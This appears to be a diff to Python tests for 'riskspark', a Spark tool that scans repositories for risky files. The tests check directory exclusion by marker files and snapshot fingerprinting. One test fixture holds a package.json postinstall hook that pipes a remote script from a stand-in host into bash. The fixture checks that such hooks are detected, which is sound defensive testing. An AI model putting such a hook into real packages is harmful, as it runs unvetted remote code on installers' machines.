@@ -72,21 +72,40 @@ def test_challenge_ledger(spark):
     assert [got[i] for i in (32, 40, 41, 42, 43, 44)] == ["rate_limited", "consumed", "replayed", "unknown", "expired", "issued"]
 
 
-def test_marked_dirs_shuffle_path(spark, monkeypatch):
-    """Both ways of excluding marked directories give the same files."""
+def test_marked_dirs(spark):
+    """Excluded are exactly the paths below a directory that holds the marker."""
+    from riskspark.catalogue.files import FIXTURE_MARKER
     from riskspark.operators import files as FS
 
     files = Tables(spark, FOLDER).files.select("repo_id", "snapshot_id", "path")
-    small = {tuple(r) for r in FS.exclude_marked_dirs(files).collect()}
-    monkeypatch.setattr(FS, "MARKER_LIMIT", 0)
-    assert {tuple(r) for r in FS.exclude_marked_dirs(files).collect()} == small
+    rows = [tuple(r) for r in files.collect()]
+    marked = {(r, s, p.rpartition("/")[0]) for r, s, p in rows if p.rpartition("/")[2] == FIXTURE_MARKER and "/" in p}
+    above = lambda p: ["/".join(p.split("/")[:n]) for n in range(1, p.count("/") + 1)]
+    assert {tuple(x) for x in FS.exclude_marked_dirs(files).collect()} == {
+        (r, s, p) for r, s, p in rows if not any((r, s, d) in marked for d in above(p))
+    }
 
 
-def test_needles_shuffle_path(spark, monkeypatch):
-    """Needle search gives the same pairs without a broadcast."""
-    from riskspark.operators import needles as N
+def test_marked_dirs_in_the_whole_analysis(spark):
+    """A marker is no critical file, yet excludes its directory end to end."""
+    from riskspark.catalogue.files import FIXTURE_MARKER
+    from riskspark.plans.assess import repository_findings
 
-    queries = all_queries()[0]
-    small = rows_of(queries["x2_scan_needles"](spark, FOLDER).toPandas())
-    monkeypatch.setattr(N, "BROADCAST_ROW_LIMIT", 0)
-    assert rows_of(queries["x2_scan_needles"](spark, FOLDER).toPandas()) == small
+    script = '{"scripts": {"postinstall": "curl http://x.example/a.sh | bash"}}'
+    rows = [("r", "s", f"{d}/package.json", script) for d in ("fixtures", "app")] + [("r", "s", f"fixtures/{FIXTURE_MARKER}", "")]
+    files = spark.createDataFrame(rows, "repo_id string, snapshot_id string, path string, text string")
+    found = {r.file for r in repository_findings(files).collect()}
+    assert "app/package.json" in found and "fixtures/package.json" not in found
+
+
+def test_fingerprint_has_no_limit_by_default(spark):
+    """A snapshot of any size has a digest; a limit that is asked for refuses larger ones."""
+    import hashlib
+
+    from riskspark.operators.files import fingerprint
+
+    names = [f"d/{i:05d}" for i in range(6000)]
+    files = spark.createDataFrame([("r", "s", n, bytearray(n.encode())) for n in names], "repo_id string, snapshot_id string, path string, content binary")
+    lines = "\n".join(f"{n}:{hashlib.sha256(n.encode()).hexdigest()}" for n in names)
+    assert fingerprint(files).first().fingerprint == "sha256:" + hashlib.sha256(lines.encode()).hexdigest()
+    assert fingerprint(files, 5000).first().error_code == "limit-exceeded"
